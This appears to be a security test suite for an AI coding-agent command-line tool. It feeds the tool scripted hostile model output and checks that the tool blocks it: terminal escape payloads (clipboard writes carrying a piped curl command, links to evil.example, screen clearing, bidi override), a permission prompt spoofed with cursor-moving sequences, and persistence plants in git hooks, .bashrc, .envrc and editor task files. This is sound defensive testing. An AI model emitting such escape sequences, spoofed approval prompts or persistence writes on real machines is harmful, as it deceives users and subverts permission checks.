/**
 * The security catalogue, on the shipped bundle (dist/bin.js, which every
 * black-box test runs: see helpers.ts): what a hostile model, tool output
 * or session log can do to the person at the terminal and to the machine.
 *
 * - every escape class through every output path: print mode's text,
 *   stderr and JSON, `yoi sessions`, `yoi config`, and the interactive
 *   session in a real terminal (tmux), resume included; figures: tried /
 *   interpreted (goal 0);
 * - the spoofed permission question of the issue, in tmux;
 * - persistence plants by the edit tools in each mode (print mode, so
 *   "ask" is "no"; bypassPermissions allows them by design) and by bash;
 *   figures: tried / planted (goal 0 outside bypassPermissions);
 * - bounds: 20,000 calls in one response, 300 MB of text, a 100 MB argument,
 *   each streamed by the scripted server as it is sent.
 */
import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import { type ScriptedServer, type ScriptStep, startScriptedServer } from "@yoi/llm-client/testing";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { sanitize } from "../src/terminal-text.ts";
import { CLI_DIR, cleanEnv, type RunResult, runYoi, tempWorld } from "./helpers.ts";
import { TmuxSession, waitForFile, yoiCommand } from "./tmux.ts";

const servers: ScriptedServer[] = [];
const terminals: TmuxSession[] = [];
afterEach(async () => {
  for (const t of terminals.splice(0)) t.kill();
  for (const s of servers.splice(0)) await s.close();
});

/** The shipped bundle, as a user runs it. */
function runBundle(args: string[], env: Record<string, string>, cwd: string): Promise<RunResult> {
  return runYoi(args, { env, cwd });
}

async function scripted(script: ScriptStep[] | ((index: number) => ScriptStep)): Promise<ScriptedServer> {
  const server = await startScriptedServer({ provider: "anthropic", script });
  servers.push(server);
  return server;
}

const env = (home: string, server: ScriptedServer, extra: Record<string, string> = {}) =>
  cleanEnv(home, { ANTHROPIC_API_KEY: "test-key", ANTHROPIC_BASE_URL: server.baseURL, ...extra });
const MODEL = ["-m", "anthropic/claude-haiku-4-5"];

/** The escape classes of the issue, and two more (SGR conceal, bidi override). */
const CLASSES: Record<string, string> = {
  "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
  "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
  "OSC 0 title": "\x1b]0;PWNED-TITLE\x07",
  "CSI 2J clear": "\x1b[2J",
  "cursor moves": "\x1b[2K\r\x1b[1A\x1b[2K\r",
  "C1 CSI": "\u009b2J",
  "DCS passthrough": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
  "SGR conceal": "\x1b[8mconcealed\x1b[0m",
  "bidi override": "\u202eevil",
};
const PAYLOAD = Object.values(CLASSES).join(" ");

const figures: string[] = [];
afterAll(() => {
  if (figures.length > 0) console.info(`security catalogue:\n  ${figures.join("\n  ")}`);
});

describe("escape sequences reach no terminal (tried / interpreted)", () => {
  it("print mode: the answer, stderr, JSON; yoi sessions; yoi config", async () => {
    const { home, project } = await tempWorld({
      ".yoi/config.jsonc": JSON.stringify({ compaction: { summaryPrompt: `summarize ${PAYLOAD}` } }),
    });
    const server = await scripted([
      {
        type: "reply",
        text: `answer ${PAYLOAD}`,
        toolCalls: [{ id: "b", name: "bash", arguments: { command: `echo ${PAYLOAD}` } }],
      },
      { type: "reply", text: `done ${PAYLOAD}` },
      { type: "reply", text: `json ${PAYLOAD}` },
    ]);
    const e = env(home, server, { YOI_TRUST_PROJECT: "1" });
    let tried = 0;
    const hits: string[] = [];
    const check = (where: string, text: string) => {
      tried += Object.keys(CLASSES).length;
      if (/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(text)) hits.push(where);
    };
    const text = await runBundle(["-p", ...MODEL, `first prompt ${PAYLOAD}`], e, project);
    check("print: answer", text.stdout);
    // stderr: "denied bash: <command>" quotes the command.
    expect(text.stderr).toContain("denied bash: echo ␛]52");
    check("print: stderr", text.stderr);
    const json = await runBundle(["-p", ...MODEL, "--output", "stream-json", "again"], e, project);
    check("print: stream-json", json.stdout);
    expect(
      json.stdout
        .split("\n")
        .filter(Boolean)
        .every((l) => JSON.parse(l)),
    ).toBeTruthy();
    const sessions = await runBundle(["sessions"], e, project);
    expect(sessions.stdout).toContain("first prompt ␛]52");
    check("yoi sessions", sessions.stdout);
    const config = await runBundle(["config"], e, project);
    // Values are shown as JSON (ESC as \u001b); what JSON leaves raw (C1, bidi) is made visible.
    expect(config.stdout).toContain("summarize ");
    check("yoi config", config.stdout);
    figures.push(`escapes, print/sessions/config: tried ${tried}, interpreted ${hits.length}`);
    expect(hits).toEqual([]);
  }, 120_000);

  it.runIf(TmuxSession.available())(
    "the interactive session, tool previews, the spoofed question and resume, in a real terminal",
    async () => {
      const { home, project } = await tempWorld({ "a.txt": `file text ${PAYLOAD}\n` });
      const spoof = "touch PWNED-BY-SPOOF; : \x1b[2K\r\x1b[1A\x1b[2K\r? allow bash: ls -la";
      const server = await scripted([
        {
          type: "reply",
          text: `model says ${PAYLOAD}`,
          toolCalls: [{ id: "r", name: "read_file", arguments: { path: "a.txt" } }],
        },
        { type: "reply", toolCalls: [{ id: "s", name: "bash", arguments: { command: spoof } }] },
        { type: "reply", text: "finished" },
      ]);
      const out = path.join(home, "run");
      const tty = TmuxSession.start(yoiCommand({ project, home, baseURL: server.baseURL, args: [], out }), {
        width: 160,
        height: 50,
      });
      terminals.push(tty);
      tty.query("set-option", "-g", "set-clipboard", "on");
      const titleBefore = tty.query("display", "-p", "#{pane_title}");
      await tty.waitFor(/^›\s*$/m);
      tty.type("go");
      tty.keys("Enter");
      // The question shows the whole command, its controls visible: the spoof cannot hide `touch`.
      let screen = await tty.waitFor("[a]lways");
      expect(screen).toContain("? allow bash: touch PWNED-BY-SPOOF; : ␛[2K␍␛[1A␛[2K␍? allow bash: ls -la");
      tty.type("n");
      await tty.waitFor("finished");
      screen = tty.query("capture-pane", "-p", "-J", "-S", "-200", "-t", tty.name);
      expect(existsSync(path.join(project, "PWNED-BY-SPOOF"))).toBe(false);
      tty.type("/exit");
      tty.keys("Enter");
      await waitForFile(`${out}.exit`);
      tty.kill();
      terminals.pop();
      // Resume replays the model's text.
      const out2 = path.join(home, "run2");
      const again = TmuxSession.start(
        yoiCommand({ project, home, baseURL: server.baseURL, args: ["-c"], out: out2 }),
        { width: 160, height: 50 },
      );
      terminals.push(again);
      again.query("set-option", "-g", "set-clipboard", "on");
      await again.waitFor(/resumed session/);
      await again.waitFor(/^›\s*$/m);
      // Wrapped lines joined, so a form split at the edge is still found.
      const joined = (t: TmuxSession) => t.query("capture-pane", "-p", "-J", "-S", "-200", "-t", t.name);
      const resumed = joined(again);
      let tried = 0;
      const interpretedClasses: string[] = [];
      for (const [name, attack] of Object.entries(CLASSES)) {
        for (const [where, view] of [
          ["interactive", screen],
          ["resume", resumed],
        ] as const) {
          tried++;
          // A sequence the terminal acted on leaves no visible form behind.
          const visible = sanitize(attack).replace(/\r/g, "").slice(0, 6);
          if (!view.includes(visible)) interpretedClasses.push(`${where}: ${name}`);
        }
      }
      // Nothing reached the clipboard (OSC 52) or the title (OSC 0).
      expect(tty.query("list-buffers") + again.query("list-buffers")).toBe("");
      expect(again.query("display", "-p", "#{pane_title}")).not.toContain("PWNED-TITLE");
      expect(titleBefore).not.toContain("PWNED-TITLE");
      figures.push(
        `escapes, interactive + resume (tmux): tried ${tried}, interpreted ${interpretedClasses.length}`,
      );
      expect(interpretedClasses).toEqual([]);
    },
    180_000,
  );
});

/** Protected targets and what an edit tool call writes there. */
const TARGETS = [
  ".git/hooks/post-checkout",
  ".git/config",
  ".yoi/commands/evil.md",
  ".vscode/tasks.json",
  ".envrc",
  ".mcp.json",
  ".bashrc",
];

function planted(project: string, target: string): boolean {
  try {
    const file = path.join(project, target);
    return lstatSync(file).isFile() && readFileSync(file, "utf8").includes("EVIL");
  } catch {
    return false;
  }
}

describe("persistence plants (tried / planted)", () => {
  it("by the edit tools in each mode, and by bash under an allow rule, in the shipped bundle", async () => {
    let tried = 0;
    const landed: string[] = [];
    const bypass: string[] = [];
    for (const mode of ["default", "acceptEdits", "plan", "bypassPermissions"]) {
      const { home, project } = await tempWorld({ "README.md": "x\n" });
      execFileSync("git", ["init", "-q", project]);
      const calls = TARGETS.map((target, i) => ({
        id: `w${i}`,
        name: "write_file",
        arguments: { path: target, content: "EVIL" },
      }));
      const bashPlants = [
        "echo EVIL > .git/hooks/pre-commit",
        "cp README.md .envrc; echo EVIL >> .envrc",
        "echo EVIL > x && mv x .vscode/tasks.json",
        "mkdir -p .yoi && echo EVIL > .yoi/config.jsonc",
        "git config core.hooksPath /tmp/EVIL",
        "echo EVIL | tee .mcp.json",
        "ln -s /tmp/EVIL .bashrc",
      ].map((command, i) => ({ id: `b${i}`, name: "bash", arguments: { command } }));
      const server = await scripted([
        { type: "reply", toolCalls: [...calls, ...bashPlants] },
        { type: "reply", text: "ok" },
      ]);
      const r = await runBundle(
        ["-p", ...MODEL, "--permission-mode", mode, "--allow-tool", "bash", "plant"],
        env(home, server),
        project,
      );
      expect(r.code, r.stderr).toBe(0);
      const targets = [...TARGETS, ".git/hooks/pre-commit", ".yoi/config.jsonc"];
      for (const target of targets) {
        tried++;
        if (planted(project, target))
          (mode === "bypassPermissions" ? bypass : landed).push(`${mode}: ${target}`);
      }
      tried++;
      if (readFileSync(path.join(project, ".git/config"), "utf8").includes("hooksPath"))
        landed.push(`${mode}: git config`);
      tried++;
      if (
        existsSync(path.join(project, ".bashrc")) &&
        lstatSync(path.join(project, ".bashrc")).isSymbolicLink()
      )
        landed.push(`${mode}: ln -s .bashrc`);
    }
    figures.push(
      `plants outside bypassPermissions: tried ${tried}, planted ${landed.length}; edit-tool plants allowed by bypassPermissions (by design): ${bypass.length}`,
    );
    expect(landed).toEqual([]);
  }, 240_000);
});

describe("bounds on what a model sends", () => {
  /** An Anthropic stream, made as it is sent. */
  function* stream(
    blocks: (index: number) => Iterable<string>,
    count: number,
    stop: string,
  ): Iterable<string> {
    yield JSON.stringify({
      type: "message_start",
      message: {
        id: "m",
        type: "message",
        role: "assistant",
        model: "c",
        content: [],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: 1, output_tokens: 1 },
      },
    });
    for (let i = 0; i < count; i++) yield* blocks(i);
    yield JSON.stringify({
      type: "message_delta",
      delta: { stop_reason: stop, stop_sequence: null },
      usage: { output_tokens: 1 },
    });
    yield JSON.stringify({ type: "message_stop" });
  }

  it("20,000 calls in one response: the first 200 run, each other one gets an error result; the run goes on", async () => {
    const { home, project } = await tempWorld({ "a.txt": "a\n" });
    const calls = (i: number) => [
      JSON.stringify({
        type: "content_block_start",
        index: i,
        content_block: { type: "tool_use", id: `c${i}`, name: "read_file", input: {} },
      }),
      JSON.stringify({
        type: "content_block_delta",
        index: i,
        delta: { type: "input_json_delta", partial_json: '{"path":"a.txt"}' },
      }),
      JSON.stringify({ type: "content_block_stop", index: i }),
    ];
    const server = await scripted((index) =>
      index === 0
        ? { type: "generate", lines: () => stream(calls, 20_000, "tool_use") }
        : { type: "reply", text: "read them" },
    );
    const r = await runBundle(["-p", ...MODEL, "--output", "json", "read"], env(home, server), project);
    expect(r.code, r.stderr).toBe(0);
    // Every call has its result in the next request, 19,800 of them errors; being many, compaction follows.
    const next = JSON.stringify(server.requests[1]);
    expect(next.match(/"is_error":true/g)?.length ?? 0).toBeGreaterThanOrEqual(19_800);
    // The reason is in the session log (booleans: a failure must not print megabytes).
    const logged = execFileSync(
      "grep",
      ["-rlF", "--include=*.jsonl", "(worker.maxToolCallsPerResponse)", home],
      {
        encoding: "utf8",
      },
    );
    expect(/\.jsonl/.test(logged)).toBe(true);
    figures.push(
      `20,000 calls: 200 ran, 19,800 answered with an error, exit ${r.code}, ${server.requests.length} requests, the next one ${(next.length / 1e6).toFixed(1)} MB`,
    );
  }, 240_000);

  it("300 MB of text: stopped at worker.maxResponseBytes, non-zero exit, nothing recorded", async () => {
    const { home, project } = await tempWorld();
    const chunk = "x".repeat(64 * 1024);
    const text = (i: number) =>
      i === 0
        ? [
            JSON.stringify({
              type: "content_block_start",
              index: 0,
              content_block: { type: "text", text: "" },
            }),
            ...Array.from({ length: 4800 }, () =>
              JSON.stringify({
                type: "content_block_delta",
                index: 0,
                delta: { type: "text_delta", text: chunk },
              }),
            ),
            JSON.stringify({ type: "content_block_stop", index: 0 }),
          ]
        : [];
    const server = await scripted([{ type: "generate", lines: () => stream(text, 1, "end_turn") }]);
    const r = await runBundle(["-p", ...MODEL, "talk"], env(home, server), project);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/passed 16777216 bytes \(worker\.maxResponseBytes\)/);
    expect(r.stdout).toBe("");
    figures.push(`300 MB of text: exit ${r.code}, "${r.stderr.trim().split("\n").at(-1)?.slice(0, 90)}…"`);
  }, 240_000);

  it("a 100 MB argument: stopped at worker.maxToolArgumentBytes, non-zero exit, nothing written", async () => {
    const { home, project } = await tempWorld();
    const piece = "y".repeat(64 * 1024);
    const arg = (i: number) =>
      i === 0
        ? [
            JSON.stringify({
              type: "content_block_start",
              index: 0,
              content_block: { type: "tool_use", id: "w", name: "write_file", input: {} },
            }),
            JSON.stringify({
              type: "content_block_delta",
              index: 0,
              delta: { type: "input_json_delta", partial_json: '{"path":"big.txt","content":"' },
            }),
            ...Array.from({ length: 1600 }, () =>
              JSON.stringify({
                type: "content_block_delta",
                index: 0,
                delta: { type: "input_json_delta", partial_json: piece },
              }),
            ),
            JSON.stringify({
              type: "content_block_delta",
              index: 0,
              delta: { type: "input_json_delta", partial_json: '"}' },
            }),
            JSON.stringify({ type: "content_block_stop", index: 0 }),
          ]
        : [];
    const server = await scripted([{ type: "generate", lines: () => stream(arg, 1, "tool_use") }]);
    const r = await runBundle(
      ["-p", ...MODEL, "--permission-mode", "acceptEdits", "write"],
      env(home, server),
      project,
    );
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/passed 4194304 bytes \(worker\.maxToolArgumentBytes\)/);
    expect(existsSync(path.join(project, "big.txt"))).toBe(false);
    figures.push(`100 MB argument: exit ${r.code}, nothing written`);
  }, 240_000);
  it("a 64 MB MCP result: the call fails naming worker.maxMcpResultBytes; nothing of it is kept", async () => {
    const server = await scripted([
      { type: "reply", toolCalls: [{ id: "m", name: "mcp__big__big", arguments: {} }] },
      { type: "reply", text: "noted" },
    ]);
    const fixture = path.join(CLI_DIR, "test", "fixtures", "big-mcp-server.mjs");
    const { home, project } = await tempWorld({
      ".yoi/config.jsonc": JSON.stringify({
        mcpServers: { big: { command: process.execPath, args: [fixture] } },
      }),
    });
    const r = await runBundle(
      ["-p", ...MODEL, "--allow-tool", "mcp__big__big", "ask it"],
      env(home, server, { YOI_TRUST_PROJECT: "1" }),
      project,
    );
    expect(r.code, r.stderr).toBe(0);
    const next = JSON.stringify(server.requests[1] ?? {});
    if (!/maxMcpResultBytes/.test(next))
      console.info(`next request: ${next.slice(-1500)}\nstderr: ${r.stderr.slice(0, 1500)}`);
    expect(/MCP server big answered with .*worker\.maxMcpResultBytes.*nothing of it/.test(next)).toBe(true);
    expect(next.length).toBeLessThan(100_000);
    // Nothing of it in the data directory (sessions, blobs): no blob, no log record of that size.
    const largest = execFileSync(
      "sh",
      ["-c", `find ${JSON.stringify(path.join(home, ".yoi"))} -type f -size +1M | wc -l`],
      {
        encoding: "utf8",
      },
    );
    expect(largest.trim()).toBe("0");
    figures.push(
      `64 MB MCP result: call failed naming worker.maxMcpResultBytes, exit ${r.code}, nothing over 1 MB stored`,
    );
  }, 240_000);

  it.runIf(process.getuid?.() === 0)(
    "a full disk: print mode exits non-zero saying why, and prints no unrecorded answer",
    async () => {
      const { home, project } = await tempWorld();
      const data = path.join(home, "data");
      mkdirSync(data);
      execFileSync("mount", ["-t", "tmpfs", "-o", "size=256k", "tmpfs", data]);
      try {
        try {
          execFileSync("dd", ["if=/dev/zero", `of=${path.join(data, "filler")}`, "bs=4k"], {
            stdio: "ignore",
          });
        } catch {
          // dd stops at ENOSPC: the disk is full.
        }
        writeFileSync(path.join(project, "notes.txt"), "n\n");
        const server = await scripted([
          { type: "reply", toolCalls: [{ id: "r", name: "read_file", arguments: { path: "notes.txt" } }] },
          { type: "reply", text: "THE ANSWER" },
        ]);
        mkdirSync(path.join(home, ".yoi"), { recursive: true });
        writeFileSync(path.join(home, ".yoi", "config.jsonc"), JSON.stringify({ session: { dir: data } }));
        const r = await runBundle(["-p", ...MODEL, "read"], env(home, server), project);
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/session log could not be written \(.*\).*Free disk space/);
        expect(r.stdout).not.toContain("THE ANSWER");
        figures.push(`full disk: exit ${r.code}, "${r.stderr.trim().split("\n").at(-1)?.slice(0, 100)}…"`);
      } finally {
        execFileSync("umount", ["-l", data]);
      }
    },
    120_000,
  );
});
